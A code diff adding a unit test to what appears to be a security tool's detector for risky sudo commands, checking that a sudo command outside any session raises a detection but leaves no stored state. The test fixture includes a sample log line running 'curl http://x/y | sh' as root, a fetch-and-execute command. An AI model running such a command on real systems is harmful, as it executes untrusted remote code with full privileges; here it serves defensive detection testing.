@@ -226,6 +226,20 @@ class TestRiskySudoDetector:
             assert "T1548.003" in hit["threat"]["technique"]["id"]
         assert RiskySudoState.from_snapshot(risky_state.snapshot()).sessions == risky_state.sessions
 
+    def test_a_sudo_command_outside_any_session_keeps_no_state(self) -> None:
+        """A sudo command the session tracker placed in no session still raises its detection, but
+        leaves nothing behind: its one-event session is never named again (the state grew by one entry
+        per such command, for a day)."""
+        engine = RuleEngine(load_rules(default_rules_path()))
+        risky, state = RiskySudoDetector(), RiskySudoState()
+        docs = _lines(
+            "Jul 10 10:00:02 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl http://x/y | sh",
+            "Jul 10 10:00:03 h sudo:    peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
+        )
+        found = [hit for doc in docs for hit in risky.process(doc, state, engine.match(doc))]
+        assert [hit["rule"]["id"] for hit in found] == ["secstream.risky_sudo.command"]
+        assert state.sessions == {}
+
     def test_hits_outside_sudo_ignored(self) -> None:
         """A detection on an auditd exec outside any sudo session raises nothing."""
         doc = _exec(1.0, 1)
